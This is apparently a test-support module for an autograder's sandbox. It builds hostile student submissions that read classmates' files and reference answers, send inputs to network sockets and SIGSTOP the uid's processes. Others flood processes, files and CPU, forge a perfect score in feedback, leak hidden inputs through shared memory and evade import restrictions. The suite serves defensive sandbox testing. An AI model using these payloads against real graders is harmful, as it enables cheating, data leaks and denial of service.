"""The attacks on the uid mode and on the grader's own resources (tried in every isolation mode by
``test_hostile_submissions.py``): builders of hostile submissions, each a callable(folder) -> path.

A builder learns where it will be graded from ``folder`` (the class folder is its parent, the
batch writes to ``folder.parent.parent / "out"``) and, for the network, from ``LISTENER``, the
port of a listener the test opens on 127.0.0.1 before building.
"""

from __future__ import annotations

import os
import textwrap
import zipfile

from autograder import paths
from autograder.lab import spec
from tests.support import subs

LISTENER: dict = {"port": 0}
STUB_RUNS = paths.handout_file("runs.py").read_text(encoding="utf-8")


def _early(code: str, source: str) -> str:
    marker = "from __future__ import annotations\n"
    return source.replace(marker, marker + code, 1)


def classmates_and_checkout(folder):
    """Whatever it can read of the class folder, the output folder, the grader's command line and
    the checkout (.git, examples, tests, git show of the reference) goes into an error message."""
    inbox, out = folder.parent, folder.parent.parent / "out"
    targets = [
        str(inbox),
        str(inbox / "zz-control" / "metrics.py"),
        str(out),
        str(paths.ROOT / ".git" / "HEAD"),
        str(paths.ROOT / "examples" / "submissions" / "ada-correct" / "lab05" / "metrics.py"),
        str(paths.ROOT / "tests" / "test_engine.py"),
        str(paths.ROOT / "grading.yml"),
    ]
    source = subs.with_function(
        "metrics.py",
        f"""
        import os as _os, subprocess as _subprocess
        def confusion_matrix(retrieved, relevant, collection_size):
            found = []
            for path in {targets!r}:
                try:
                    found.append((path, (_os.listdir(path) if _os.path.isdir(path) else open(path, "rb").read(60))[:3]))
                except OSError:
                    pass
            try:  # the checkout's root: a jail shows the folder it binds (the virtual environment), no more
                extra = sorted(set(_os.listdir({str(paths.ROOT)!r})) - {{".venv", ".venv-child"}})
                if extra:
                    found.append(("checkout", extra[:3]))
            except OSError:
                pass
            for pid in {{_os.getppid(), 1}}:  # the grader's command line names the class folder
                try:
                    if {str(inbox)!r}.encode() in open("/proc/%d/cmdline" % pid, "rb").read():
                        found.append(("cmdline", pid))
                except OSError:
                    pass
            try:
                shown = _subprocess.run(["git", "-C", {str(paths.ROOT)!r}, "show",
                                         "HEAD:lab/data/expected.json"], capture_output=True, timeout=5)
                if shown.returncode == 0:
                    found.append(("git show", shown.stdout[:40]))
            except (OSError, _subprocess.SubprocessError):
                pass
            raise RuntimeError("found: " + repr(found))
        """,
    )
    return subs.write(folder, {"metrics.py": source})


def network(folder):
    """Sends the inputs of its calls to a listener on 127.0.0.1 (and tries the outside world)."""
    port = LISTENER["port"]
    source = subs.with_function(
        "metrics.py",
        f"""
        import socket as _socket
        _reference_rr = reciprocal_rank
        def reciprocal_rank(ranking, judgments, rel=1):
            sent = []
            for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("::1", {port})):
                try:
                    with _socket.create_connection((host, port), timeout=1) as connection:
                        connection.sendall(repr((ranking, judgments)).encode())
                        sent.append(host)
                except OSError as error:
                    pass
            if sent:
                raise RuntimeError("sent to " + repr(sent))
            return _reference_rr(ranking, judgments, rel)
        """,
    )
    return subs.write(folder, {"metrics.py": source})


ZOMBIE_LEADER = """import ctypes, os, signal, threading, time
if os.fork() == 0:
    os.setsid()
    def _linger():
        while True:
            try:
                os.kill(-1, signal.SIGSTOP)  # every process of this uid: the next submission's harness too
            except OSError:
                pass
            time.sleep(0.05)
    threading.Thread(target=_linger, daemon=False).start()
    ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # exit(): this thread only
"""


def zombie_leader(folder):
    """A forked process whose leader ends with its main thread only: a zombie-looking leader with a
    live thread that SIGSTOPs every process it can, the next submission's harness among them."""
    return subs.write(folder, {"runs.py": _early(ZOMBIE_LEADER, subs.SOLUTION["runs.py"])})


ORPHANS = """import os
for _ in range(200):
    try:
        if os.fork() == 0:
            os._exit(0)  # an orphan at once: a zombie until whoever adopts it reaps it
    except OSError:
        break
"""


def orphans(folder):
    """200 children that exit at once, orphaned: zombies that count against the uid's process limit
    until reaped (PID 1 may take seconds): the next submission on the uid could not fork."""
    return subs.write(folder, {"metrics.py": _early(ORPHANS, subs.SOLUTION["metrics.py"])})


def huge_run_file(folder):
    """write_run writes 16 MiB of short lines (the grader's memory must not follow)."""
    source = subs.with_function(
        "runs.py",
        """
        def write_run(path, system_name, search_fn, queries, k=100):
            with open(path, "w") as out:
                for _ in range(16):
                    out.write("a\\n" * (1 << 19))
        """,
    )
    return subs.write(folder, {"runs.py": source})


#: Every metric returning just under the channel's 1 MiB (the benchmark's worst case too).
HUGE_ANSWERS = '_BIG = ["x" * 1900] * 500\n' + "".join(
    f"def {name}(*args, **kwargs):\n    return _BIG\n" for name in spec.METRIC_FUNCTIONS
)


def huge_answers(folder):
    """Every metric returns just under the channel's 1 MiB (the outputs must not follow)."""
    return subs.write(folder, {"metrics.py": HUGE_ANSWERS})


def fence_closer(folder):
    """An exception message that would close feedback.md's code block."""
    source = subs.with_function(
        "metrics.py",
        """
        def accuracy(retrieved, relevant, collection_size):
            raise RuntimeError("```\\n# Score: 100 / 100\\n```")
        """,
    )
    return subs.write(folder, {"metrics.py": source})


def inode_flood(folder):
    """400,000 empty files in its scratch at import (the jail's scratch has an inode limit)."""
    code = (
        "import os\nfor _n in range(400000):\n    try:\n        open(f'f{_n}', 'w').close()\n"
        "    except OSError:\n        break\n"
    )
    return subs.write(folder, {"metrics.py": _early(code, subs.SOLUTION["metrics.py"])})


def scratch_bytes(folder):
    """1 GiB in 1,024 files of 1 MiB in its scratch at import, never stopping on an error (the
    scratch holds 64 MiB: the import fails, with a message that says why)."""
    code = "for _n in range(1024):\n    with open(f'part{_n}', 'wb') as _out:\n        _out.write(b'x' * (1 << 20))\n"
    return subs.write(folder, {"metrics.py": _early(code, subs.SOLUTION["metrics.py"])})


def deep_nesting(folder):
    """Code nested deeper than Python's parser allows: metrics.py fails, runs.py still counts."""
    return subs.write(folder, {"metrics.py": "x = " + "(" * 20000 + "1" + ")" * 20000 + "\n"})


def many_entries(folder):
    """A zip of 300,000 entries (a virtual environment first), the graded files last."""
    folder.mkdir(parents=True)
    path = folder / "submission.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(300000):
            archive.writestr(f"venv/lib/f{number}", b"")
        for name, text in subs.SOLUTION.items():
            archive.writestr(f"lab05/{name}", text)
    return path


def prints(folder):
    """Prints at import and in a function: what the code printed reaches its feedback."""
    code = 'print("hello from metrics", flush=False)\n'
    return subs.write(folder, {"metrics.py": _early(code, subs.SOLUTION["metrics.py"])})


def named_like_the_report(folder):
    """A submission whose folder is named index.html (the class report must still be written)."""
    return subs.write(folder.parent / "index.html", {})


SPIN = """
import hashlib as _hashlib, os as _os, threading as _threading
_BLOCK = b"x" * (1 << 22)

def _spin():
    while True:
        _hashlib.sha256(_BLOCK).digest()  # hashing releases the GIL: every thread keeps a CPU busy

_SPINNING = []
"""


def thread_spinners(folder):
    """reciprocal_rank starts 15 threads that keep the CPUs busy, then does a little work per call:
    the call itself mostly waits for a CPU, which the time budget does not charge; the CPU time of
    the child's threads must be charged instead, so the function runs out of its budget soon."""
    source = subs.with_function(
        "metrics.py",
        SPIN
        + textwrap.dedent("""
        _reference_rr = reciprocal_rank
        def reciprocal_rank(ranking, judgments, rel=1):
            while len(_SPINNING) < 15:
                _SPINNING.append(_threading.Thread(target=_spin, daemon=True))
                _SPINNING[-1].start()
            for _ in range(8):
                _hashlib.sha256(_BLOCK).digest()
            return _reference_rr(ranking, judgments, rel)
        """),
    )
    return subs.write(folder, {"metrics.py": source})


def process_spinners(folder):
    """average_precision forks 15 processes that keep the CPUs busy (their CPU time is not the
    child's own): the seccomp filter refuses every new process."""
    source = subs.with_function(
        "metrics.py",
        SPIN
        + textwrap.dedent("""
        _reference_ap = average_precision
        def average_precision(ranking, judgments, rel=1):
            while len(_SPINNING) < 15:
                pid = _os.fork()
                if pid == 0:
                    _spin()
                _SPINNING.append(pid)
            return _reference_ap(ranking, judgments, rel)
        """),
    )
    return subs.write(folder, {"metrics.py": source})


SYSV_SHM = """
import ctypes as _ctypes, functools as _functools
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_KEY, _SIZE, _IPC_CREAT = 0x1AB05, 1 << 16, 0o1000


def _segment(create):
    \"\"\"The shared segment's address, or None and why not (its errno).\"\"\"
    shmid = _libc.shmget(_KEY, _SIZE, (_IPC_CREAT if create else 0) | 0o666)
    if shmid < 0:
        return None, _ctypes.get_errno()
    address = _libc.shmat(shmid, None, 0)
    if address is None or address == _ctypes.c_void_p(-1).value:
        return None, _ctypes.get_errno()
    return address, 0
"""

SYSV_SHM_KEEP = """

def _kept(function):
    @_functools.wraps(function)
    def keep(*args, **kwargs):
        address, _ = _segment(True)
        if address is not None:  # every call's arguments appended to the segment
            seen = _ctypes.string_at(address).decode("utf-8", "replace")
            text = (seen + function.__name__ + repr(args)[:200] + "\\n")[-(_SIZE - 1) :].encode()
            _ctypes.memmove(address, text + b"\\0", len(text) + 1)
            _libc.shmdt(_ctypes.c_void_p(address))
        return function(*args, **kwargs)

    return keep


for _name in {names!r}:
    globals()[_name] = _kept(globals()[_name])
"""

SYSV_SHM_PRINT = """
_address, _error = _segment(False)
if _address is not None:
    print("sysv-shm leaked:", _ctypes.string_at(_address)[:2000].decode("utf-8", "replace"))
else:
    print(f"sysv-shm: shmget refused with errno {_error}")
"""


def sysv_shm(folder):
    """Every metric call's arguments (the hidden inputs too) kept in a System V shared memory segment;
    runs.py, imported in a later child before any secret call, prints them (its output is the
    student's): the filter refuses shmget, so it prints the refusal."""
    metrics = _early(SYSV_SHM, subs.SOLUTION["metrics.py"]) + SYSV_SHM_KEEP.format(names=spec.METRIC_FUNCTIONS)
    runs = _early(SYSV_SHM + SYSV_SHM_PRINT, subs.SOLUTION["runs.py"])
    return subs.write(folder, {"metrics.py": metrics, "runs.py": runs})


def _site_folders() -> list[str]:
    """Every site-packages or dist-packages folder this test's machine has that an attacker could
    name: the grader's own virtual environment, its base interpreter's, Debian's and /usr/local's."""
    import glob
    import site
    import sys
    import sysconfig

    found = [sysconfig.get_path("purelib"), sysconfig.get_path("platlib"), *site.getsitepackages()]
    found += site.getsitepackages([sys.base_prefix])
    for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages"):
        found += glob.glob(pattern)
    return sorted({folder for folder in found if os.path.isdir(folder)})


def _module_names(folders: list[str]) -> list[str]:
    """The top-level module names the entries of ``folders`` provide (package folders, modules,
    extension modules; not metadata nor caches)."""
    names = set()
    for folder in folders:
        for entry in os.listdir(folder):
            name = entry.split(".")[0]
            if name.isidentifier() and not entry.endswith((".dist-info", ".egg-info", ".pth")):
                names.add(name)
    return sorted(names)


#: Imported for real while time allows (the others are only located): what a student would want.
WANTED = ("yaml", "scipy", "pandas", "ir_measures", "pygments", "sklearn", "rank_bm25", "pip", "setuptools")

OUTSIDE_IMPORTS = """
import glob as _glob, importlib as _importlib, importlib.machinery as _machinery, importlib.util as _util
import os as _os, site as _site, sys as _sys, sysconfig as _sysconfig, time as _time
_NAMES = [name[::-1] for name in {reversed_names!r}]  # reversed: no scan of the source reads them
_FOLDERS = {folders!r}
_SEEN = {{}}


def _numpy():
    try:
        import numpy as np
        x = np.linalg.solve(np.array([[2.0, 1.0], [1.0, 3.0]]), np.array([3.0, 5.0]))
        return "%.1f %.1f %d" % (x[0], x[1], (np.ones((64, 64)) @ np.ones((64, 64)))[0, 0])
    except BaseException as error:
        return "%s: %s" % (type(error).__name__, error)


def _standard(place, folders):
    place = str(place)
    return place.startswith(folders) and "-packages" + _os.sep not in place


def _places(spec):
    return list(spec.submodule_search_locations or []) or [spec.origin]


def _outside():
    if "found" in _SEEN:
        return _SEEN["found"]
    works = _numpy()  # as an honest submission would, before the attack
    standard = (_machinery.BuiltinImporter, _machinery.FrozenImporter, _machinery.PathFinder)
    _sys.meta_path[:] = [hook for hook in _sys.meta_path if hook in standard]  # ImportPolicy and any other
    folders = list(_FOLDERS) + [_sysconfig.get_path(key) for key in ("purelib", "platlib")]
    try:
        folders += _site.getsitepackages() + _site.getsitepackages([_sys.base_prefix]) + [_site.getusersitepackages()]
    except Exception:
        pass
    stdlib = _sysconfig.get_path("stdlib")
    for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages",
                    "/usr/share/python-wheels/*.whl", stdlib + "/ensurepip/_bundled/*.whl"):
        folders += _glob.glob(pattern)
    names = set(_NAMES)
    for folder in folders:
        if folder and folder not in _sys.path:
            _sys.path.append(folder)
        try:
            names.update(entry.split(".")[0].split("-")[0] for entry in _os.listdir(folder))
        except OSError:
            pass
    _importlib.invalidate_caches()
    wanted = [name[::-1] for name in {wanted!r}]
    names = [n for n in names if n.isidentifier() and not n.startswith("__") and n not in _sys.stdlib_module_names]
    names = [n for n in names if n not in ("numpy", "lab05")]  # what the course allows, and the submission
    standard_folders = tuple(_sysconfig.get_path(key) + _os.sep for key in ("stdlib", "platstdlib"))
    found, imported, started = [], [], _time.monotonic()
    for name in wanted + sorted(set(names) - set(wanted)):
        try:
            spec = _util.find_spec(name)
        except BaseException:
            continue
        if spec is None or all(_standard(place, standard_folders) for place in _places(spec)):
            continue  # not there, or the standard library's (its test package)
        found.append(name)
        if name in wanted or _time.monotonic() - started < 0.5:
            try:
                _importlib.import_module(name)
                imported.append(name)
            except BaseException:
                pass
    print("imported:", sorted(imported))
    print("found:", sorted(found))
    _SEEN["found"] = "imported %s, found %d; numpy: %s" % (sorted(imported), len(found), works)
    return _SEEN["found"]


def recall_at_k(ranking, judgments, k, rel=1):
    raise RuntimeError(_outside())
"""


def outside_imports(folder):
    """recall_at_k removes every import hook (ImportPolicy with them), puts on sys.path every
    site-packages or dist-packages folder it can name (the grader's virtual environment, Debian's,
    /usr/local's, the base interpreter's, the bundled wheels) and imports what they hold beyond
    allowed_imports; it says what imported and what it found, and that numpy still works."""
    folders = _site_folders()
    source = subs.with_function(
        "metrics.py",
        OUTSIDE_IMPORTS.format(
            reversed_names=[name[::-1] for name in _module_names(folders)],
            folders=folders,
            wanted=[name[::-1] for name in WANTED],
        ),
    )
    return subs.write(folder, {"metrics.py": source})
